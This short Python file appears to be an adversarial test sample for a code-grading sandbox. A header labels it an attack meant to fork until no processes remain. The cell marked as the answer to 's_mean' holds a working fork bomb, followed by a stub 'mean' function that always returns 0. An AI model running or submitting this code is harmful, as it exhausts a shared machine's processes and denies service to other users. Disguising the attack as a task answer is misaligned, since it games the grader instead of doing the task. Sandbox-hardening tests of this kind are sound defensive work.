# /// attack
# tries = "forks until there is no process left for anybody"
# shows = "no more"
# ///

# %% answer s_mean
import os, time

children = 0
try:
    for _ in range(10_000):
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                    time.sleep(60)
                except OSError:
                    time.sleep(60)
        children += 1
except OSError:
    print("no more" if children < 500 else "{{REACHED}}")


def mean(values):
    return 0
